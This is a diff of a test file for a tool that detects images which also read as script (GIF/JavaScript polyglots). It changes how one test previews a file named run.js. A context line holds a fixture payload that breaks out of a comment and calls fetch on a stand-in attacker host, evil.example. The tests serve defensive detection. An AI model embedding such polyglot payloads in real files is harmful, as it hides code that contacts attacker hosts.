@@ -45,9 +45,8 @@ describe('a picture that is more than a picture', () => {
         text: '*/=1;fetch("https://evil.example");//\\x{FF}',
       },
     ]);
-    expect(restOf('run.js', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b]))).toMatchObject([
-      { what: 'the whole file, which also reads as text' },
-    ]);
+    const run = of('run.js', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b])).preview;
+    expect(run).toMatchObject({ kind: 'image', whole: { text: 'GIF89a\u0002\0\u0003\0\0\0\0;' } });
   });
   it('shows JPEG comments and what follows the last scan, but no colour profile', () => {
     const segment = (marker: number, data: string): number[] => [
